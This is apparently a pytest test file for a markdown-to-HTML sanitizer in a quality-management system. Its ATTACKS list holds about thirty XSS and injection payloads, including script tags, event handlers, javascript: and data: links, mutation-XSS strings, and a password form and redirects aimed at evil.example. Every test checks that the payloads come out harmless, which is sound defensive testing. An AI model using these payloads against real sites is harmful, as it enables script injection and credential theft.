"""Markdown of staff becomes HTML in which nothing runs and nothing is fetched."""

import json
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qms.lib.markdown import to_html
from tests.shared_data import needs_shared_data, shared_data

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](&#0000106avascript:alert(1))",
    "[click](\x01javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](//evil.example/)",
    "[click](\\\\evil.example\\share)",
    "[click](/accounts/logout/)",
    "[click](https://a.example 'x\" onmouseover=\"alert(1)')",
    "[click]: javascript:alert(1)\n\n[click]",
    "<javascript:alert(1)>",
    "![x](http://tracker.example/pixel.png)",
    '![x" onerror="alert(1)](http://tracker.example/p.png)',
    "[![x](http://tracker.example/p.png)](http://ok.example)",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    '~~~ x" onclick=alert(1)\ncode\n~~~',
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:1) |",
    '<a href="javascript:alert(1)">x</a>',
    "<style>*{background:url(http://tracker.example)}</style>",
    "<form action=http://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example>",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]
ALLOWED = {
    *("p", "br", "hr", "h3", "h4", "h5", "h6", "blockquote", "pre", "code", "ul", "ol", "li"),
    *("strong", "em", "s", "a", "table", "thead", "tbody", "tr", "th", "td"),
}


class _Reader(HTMLParser):
    """Collects what a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in _Reader(html).found:
        assert tag in ALLOWED
        allowed = {"a": {"href", "title", "rel"}, "ol": {"start"}}.get(tag, set())
        assert set(attributes) <= allowed
        if tag == "a":
            assert re.match(r"(https?://|mailto:)", attributes.get("href") or "https://")
            assert attributes["rel"] == "nofollow noopener noreferrer"


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_becomes_text(attack: str) -> None:
    assert_harmless(to_html(attack))


@given(
    st.lists(st.sampled_from([*"[]()<>!`*_~#|&;:/\\\"'\n \t-", "javascript:", "<img src=x onerror=1>", "http://a.b"]))
)
def test_no_mixture_of_signs_becomes_an_attack(signs: list[str]) -> None:
    assert_harmless(to_html("".join(signs)))


@needs_shared_data
def test_naughty_strings_become_harmless_html() -> None:
    for naughty in json.loads((shared_data() / "nasty" / "blns.json").read_text()):
        assert_harmless(to_html(naughty))


def test_what_staff_write_looks_as_meant() -> None:
    html = to_html(
        "# Cause\n\n**Seam** too ~~thick~~ thin, see CMP-2026-00042.\n\n| Lot | Bad |\n|---|---|\n| 7 | 12 |"
    )
    assert "<h3>Cause</h3>" in html
    assert "<strong>Seam</strong> too <s>thick</s> thin, see CMP-2026-00042." in html
    assert "<td>12</td>" in html


def test_a_link_opens_without_telling_where_from() -> None:
    assert to_html("[norm](https://iso.example/13485)") == (
        '<p><a href="https://iso.example/13485" rel="nofollow noopener noreferrer">norm</a></p>\n'
    )
    assert 'href="mailto:q@acme.example"' in to_html("<mailto:q@acme.example>")


def test_a_picture_becomes_its_description() -> None:
    assert to_html("before ![crack at <B-10>](http://tracker.example/p.png) after") == (
        "<p>before crack at &lt;B-10&gt; after</p>\n"
    )


def test_endless_nesting_is_cut_and_not_followed() -> None:
    for sign in (">", "- ", "[", "*a_", "1. "):
        assert_harmless(to_html(sign * 5_000))
